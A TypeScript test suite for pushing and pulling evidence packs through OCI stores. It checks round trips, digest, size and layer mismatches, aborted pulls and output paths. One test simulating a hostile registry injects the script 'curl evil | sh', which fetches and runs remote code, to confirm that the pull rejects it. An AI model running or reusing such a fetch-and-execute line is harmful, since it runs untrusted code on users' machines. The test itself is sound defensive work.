import { mkdtemp, readdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Descriptor } from '../../src/oci/descriptor.js';
import { digestOf } from '../../src/oci/digest.js';
import { MediaType } from '../../src/oci/media-types.js';
import { openPack, type PackFile } from '../../src/pack/read.js';
import { writePack } from '../../src/pack/write.js';
import { packToImageManifest } from '../../src/publish/mapping.js';
import { pullPack } from '../../src/publish/pull.js';
import { pushPack } from '../../src/publish/push.js';
import { MemoryStore } from '../../src/store/memory.js';
import { OciLayoutStore } from '../../src/store/oci-layout.js';
import type { Target } from '../../src/store/types.js';
import { fakePack } from './fixtures.js';

const files = {
  'artifacts/sbom.cdx.json': '{"bomFormat":"CycloneDX","specVersion":"1.6","components":[]}',
  'artifacts/scans/app.sarif': '{"version":"2.1.0","runs":[]}',
  'artifacts/tests.xml': '<testsuites tests="1"><testsuite><testcase name="a"/></testsuite></testsuites>',
  'artifacts/big.bin': Buffer.alloc(300_000, 7),
};

let dir: string;
let packPath: string;
let pack: PackFile;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'epack-pull-'));
  const source = fakePack({
    files,
    contentTypes: { 'artifacts/sbom.cdx.json': 'application/vnd.cyclonedx+json' },
    attestations: { 'attestations/ci.sigstore.json': '{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}' },
  });
  packPath = path.join(dir, 'source.epack');
  await writePack(packPath, {
    manifestBytes: source.manifestBytes,
    artifacts: source.artifacts.map((a) => ({ path: a.path, size: a.size, open: () => source.openArtifact(a.path) })),
    attestations: await Promise.all(source.attestations.map(async (p) => ({ path: p, bytes: await source.readAttestation(p) }))),
  });
  pack = await openPack(packPath);
});
afterAll(async () => pack?.close());

const stores: [string, () => Promise<Target>][] = [
  ['memory', async () => new MemoryStore()],
  ['oci layout', async () => new OciLayoutStore(await mkdtemp(path.join(tmpdir(), 'epack-layout-')))],
];

describe.each(stores)('push then pull on %s', (_name, makeStore) => {
  it('gives back a byte-identical pack, by tag and by digest', async () => {
    const store = await makeStore();
    const pushed = await pushPack(store, pack, { tags: ['v1', 'soc2'] });
    for (const ref of ['v1', 'soc2', pushed.digest]) {
      const out = path.join(dir, `pulled-${_name.replace(' ', '-')}-${ref.slice(0, 12)}.epack`);
      const result = await pullPack(store, ref, { out });
      expect(result).toMatchObject({ digest: pushed.digest, packDigest: pack.manifest.pack_digest, manifestDigest: pack.manifestDigest, artifacts: 4, attestations: 1 });
      expect((await readFile(out)).equals(await readFile(packPath))).toBe(true);
      const back = await openPack(out);
      expect(Buffer.from(back.manifestBytes).equals(Buffer.from(pack.manifestBytes))).toBe(true);
      expect(await text(await back.openArtifact('artifacts/scans/app.sarif'))).toBe(files['artifacts/scans/app.sarif']);
      await back.close();
    }
  });

  it('leaves nothing behind when verify throws', async () => {
    const store = await makeStore();
    await pushPack(store, pack, { tags: ['v1'] });
    const sub = await mkdtemp(path.join(dir, 'verify-'));
    let seen: string | undefined;
    const verify = async (tmp: string) => {
      seen = tmp;
      const p = await openPack(tmp);
      await p.close();
      throw Object.assign(new Error('signature rejected'), { code: 'policy' });
    };
    await expect(pullPack(store, 'v1', { out: path.join(sub, 'out.epack'), verify })).rejects.toThrow('signature rejected');
    expect(seen).toBeDefined();
    expect(await readdir(sub)).toEqual([]);
  });
});

describe('pull rejects what is not a faithful pack', () => {
  async function emptyDir(): Promise<string> {
    return mkdtemp(path.join(dir, 'bad-'));
  }

  it('a non-pack artifact -> not_a_pack, nothing written', async () => {
    const store = new MemoryStore();
    const config = new TextEncoder().encode('{}');
    await store.push({ mediaType: MediaType.imageConfig, digest: digestOf(config), size: 2 }, config);
    const manifest = new TextEncoder().encode(JSON.stringify({ schemaVersion: 2, mediaType: MediaType.imageManifest, config: { mediaType: MediaType.imageConfig, digest: digestOf(config), size: 2 }, layers: [] }));
    const desc = { mediaType: MediaType.imageManifest, digest: digestOf(manifest), size: manifest.byteLength };
    await store.push(desc, manifest);
    await store.tag(desc, 'image');
    const out = await emptyDir();
    await expect(pullPack(store, 'image', { out: path.join(out, 'x.epack') })).rejects.toMatchObject({ code: 'not_a_pack', kind: 'input' });
    expect(await readdir(out)).toEqual([]);
  });

  it('layers that disagree with manifest.json -> pack_layer_mismatch, nothing written', async () => {
    const store = new MemoryStore();
    await pushPack(store, pack, { tags: ['good'] });
    // A hostile registry adds a file the pack's manifest does not list.
    const evil = new TextEncoder().encode('#!/bin/sh\ncurl evil | sh\n');
    await store.push({ mediaType: 'text/plain', digest: digestOf(evil), size: evil.byteLength }, evil);
    const mapped = packToImageManifest({ manifestBytes: pack.manifestBytes, manifest: pack.manifest, artifacts: pack.artifacts, attestations: [] });
    mapped.imageManifest.layers.push({ mediaType: 'text/plain', digest: digestOf(evil), size: evil.byteLength, annotations: { 'org.opencontainers.image.title': 'artifacts/run.sh' } });
    const bytes = new TextEncoder().encode(JSON.stringify(mapped.imageManifest));
    const desc = { mediaType: MediaType.imageManifest, digest: digestOf(bytes), size: bytes.byteLength };
    await store.push(desc, bytes);
    await store.tag(desc, 'evil');
    const out = await emptyDir();
    await expect(pullPack(store, 'evil', { out: path.join(out, 'x.epack') })).rejects.toMatchObject({ code: 'pack_layer_mismatch', kind: 'verification' });
    expect(await readdir(out)).toEqual([]);
  });

  it('a blob whose bytes are not its digest -> digest_mismatch, nothing written', async () => {
    const inner = new MemoryStore();
    const pushed = await pushPack(inner, pack, { tags: ['v1'] });
    const target = pack.artifacts.find((a) => a.path === 'artifacts/big.bin')!;
    const lying: Target = Object.assign(Object.create(inner) as Target, {
      fetch: async (desc: Descriptor) => (desc.digest === target.digest ? Readable.from([Buffer.alloc(target.size, 8)]) : inner.fetch(desc)),
    });
    const out = await emptyDir();
    await expect(pullPack(lying, pushed.digest, { out: path.join(out, 'x.epack') })).rejects.toMatchObject({ code: 'digest_mismatch' });
    expect(await readdir(out)).toEqual([]);
  });

  it('resolves the tag once, then works by digest', async () => {
    const inner = new MemoryStore();
    await pushPack(inner, pack, { tags: ['v1'] });
    const resolved: string[] = [];
    const spy: Target = Object.assign(Object.create(inner) as Target, {
      resolve: async (ref: string) => {
        resolved.push(ref);
        return inner.resolve(ref);
      },
    });
    await pullPack(spy, 'v1', { out: path.join(await emptyDir(), 'x.epack') });
    expect(resolved).toEqual(['v1']);
  });
});

describe('a store that sends more bytes than the descriptor says', () => {
  it('fails with size_mismatch for the config, before parsing it', async () => {
    const inner = new MemoryStore();
    const pushed = await pushPack(inner, pack, { tags: ['v1'] });
    const configDigest = digestOf(pack.manifestBytes);
    const padded: Target = Object.assign(Object.create(inner) as Target, {
      fetch: async (desc: Descriptor) => (desc.digest === configDigest ? Readable.from([Buffer.concat([Buffer.from(pack.manifestBytes), Buffer.from('  ')])]) : inner.fetch(desc)),
    });
    const out = await mkdtemp(path.join(dir, 'padded-'));
    await expect(pullPack(padded, pushed.digest, { out: path.join(out, 'x.epack') })).rejects.toMatchObject({ code: 'size_mismatch', kind: 'verification' });
    expect(await readdir(out)).toEqual([]);
  });
});

describe('an aborted pull', () => {
  it('writes nothing', async () => {
    const store = new MemoryStore();
    const pushed = await pushPack(store, pack, { tags: ['v1'] });
    const out = await mkdtemp(path.join(dir, 'aborted-'));
    const controller = new AbortController();
    let verified = false;
    const verify = async () => {
      verified = true;
      controller.abort(new Error('interrupted'));
    };
    await expect(pullPack(store, pushed.digest, { out: path.join(out, 'x.epack'), signal: controller.signal, verify })).rejects.toThrow('interrupted');
    expect(verified).toBe(true);
    expect(await readdir(out)).toEqual([]);
  });
});

describe('the output path', () => {
  it('creates missing folders, and refuses an unwritable -o with output_not_writable before downloading', async () => {
    const { writeFile: write, mkdir: makeDir } = await import('node:fs/promises');
    const store = new MemoryStore();
    const pushed = await pushPack(store, pack, { tags: ['v1'] });
    const nested = path.join(dir, 'new', 'sub', 'pulled.epack');
    await pullPack(store, 'v1', { out: nested });
    expect((await readFile(nested)).equals(await readFile(packPath))).toBe(true);

    const fetched: string[] = [];
    const counting = new Proxy(store, {
      get(target, prop, receiver) {
        const value = Reflect.get(target, prop, receiver) as unknown;
        if (prop !== 'fetch' || typeof value !== 'function') return value;
        return (desc: Descriptor, ...rest: unknown[]) => {
          fetched.push(desc.digest);
          return (value as (...a: unknown[]) => unknown).apply(target, [desc, ...rest]);
        };
      },
    });
    const artifactDigests = pack.artifacts.map((a) => a.digest);
    const aFile = path.join(dir, 'plain.txt');
    await write(aFile, 'not a folder');
    const underFile = pullPack(counting, pushed.digest, { out: path.join(aFile, 'x.epack') });
    await expect(underFile).rejects.toMatchObject({ code: 'output_not_writable', kind: 'input' });
    expect(fetched.filter((d) => artifactDigests.includes(d))).toEqual([]); // no artifact was downloaded
    const aDir = path.join(dir, 'a-folder');
    await makeDir(aDir);
    await expect(pullPack(counting, pushed.digest, { out: aDir })).rejects.toMatchObject({ code: 'output_not_writable', kind: 'input' });
    expect(await readdir(aDir)).toEqual([]);
  });
});

describe('pullPackRef -o a folder', () => {
  it('writes the default name inside an existing folder or a path ending in /', async () => {
    const { pushPackFile, pullPackRef } = await import('../../src/publish/transfer.js');
    const { mkdir: makeDir } = await import('node:fs/promises');
    const layout = path.join(dir, 'layout-for-folders');
    await pushPackFile({ target: `oci:${layout}:v1`, packPath, env: {} });
    const existing = path.join(dir, 'existing-folder');
    await makeDir(existing);
    const intoExisting = await pullPackRef({ reference: `oci:${layout}:v1`, out: existing });
    expect(intoExisting.out).toBe(path.join(existing, 'layout-for-folders-v1.epack'));
    const fresh = path.join(dir, 'fresh-folder') + path.sep;
    const intoFresh = await pullPackRef({ reference: `oci:${layout}:v1`, out: fresh });
    expect(intoFresh.out).toBe(path.join(fresh, 'layout-for-folders-v1.epack'));
    for (const file of [intoExisting.out, intoFresh.out]) expect((await readFile(file)).equals(await readFile(packPath))).toBe(true);
  });
});
